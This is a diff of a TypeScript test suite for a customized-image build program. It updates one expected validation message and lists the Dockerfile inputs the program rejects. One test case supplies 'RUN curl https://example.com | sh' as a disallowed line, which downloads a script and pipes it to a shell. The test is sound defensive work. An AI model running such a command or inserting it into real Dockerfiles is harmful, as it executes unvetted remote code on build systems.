@@ -84,7 +84,7 @@ describe('the program for customized images', () => {
   test.each<[string, Record<string, string>, string]>([
     ['without lines', { IMAGE, REPOSITORY: BASE }, 'the variable CUSTOM_IMAGE is not set, so there is nothing to build; start the project that mirrors instead'],
     ['with tags to select', { IMAGE: `${UPSTREAM}/team/app`, REPOSITORY: BASE, CUSTOM_IMAGE, TAGS: '{"patterns":["*"]}' }, 'the variable TAGS is set, but a build customizes a single tag; start the project that mirrors instead'],
-    ['with lines that would bring another image in', { IMAGE, REPOSITORY: BASE, CUSTOM_IMAGE: CUSTOM_IMAGE.replace('RUN true', 'FROM alpine') }, 'starts with \\"FROM\\"'],
+    ['with lines that would bring another image in', { IMAGE, REPOSITORY: BASE, CUSTOM_IMAGE: CUSTOM_IMAGE.replace('RUN true', 'FROM alpine') }, 'its Dockerfile lines or its platforms are not valid'],
     [
       'with lines that the app has not declared',
       { IMAGE, REPOSITORY: BASE, CUSTOM_IMAGE: CUSTOM_IMAGE.replace('RUN true', 'RUN curl https://example.com | sh') },
